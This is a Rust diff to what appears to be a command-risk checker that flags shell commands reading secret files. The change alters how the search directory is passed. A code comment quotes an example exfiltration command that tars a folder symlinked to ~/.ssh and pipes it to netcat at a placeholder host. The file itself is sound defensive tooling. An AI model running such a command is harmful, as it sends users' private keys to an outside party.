@@ -1089,11 +1089,13 @@ impl Check for SecretRead {
                 ))
             });
             // The tree walked only when the words name no secret (`rg x /`: the home directory),
-            // from the directory the line moved to.
-            let search_dir = unit_dir.as_deref().unwrap_or(cx.cwd);
+            // from the directory the line moved to (one known only at run time is not walked).
             if read.is_none()
-                && let Some(why) = super::tree_search::search_reads_secret_file(u, search_dir, cx)
-                    .or_else(|| super::tree_search::history_prints_secret(u, moved.as_deref(), cx))
+                && let Some(why) =
+                    super::tree_search::search_reads_secret_file(u, unit_dir.as_deref(), cx)
+                        .or_else(|| {
+                            super::tree_search::history_prints_secret(u, moved.as_deref(), cx)
+                        })
             {
                 out.push(ask(Some(i), u.span, Risk::High, why));
                 continue;
@@ -1397,7 +1399,7 @@ fn reads_secret_in(cx: &CheckCtx, u: &Unit) -> Option<String> {
     wrapper_read_secret(u)
         .or_else(|| reads_secret(u, true))
         .or_else(|| fed_secret(cx.analysis, u))
-        .or_else(|| super::tree_search::search_reads_secret_file(u, cx.cwd, cx))
+        .or_else(|| super::tree_search::search_reads_secret_file(u, Some(cx.cwd), cx))
         .or_else(|| super::tree_search::history_prints_secret(u, None, cx))
         // `tar cf - notes | nc h p` with `notes -> ~/.ssh` in the workspace: the words name no
         // secret, the link does.
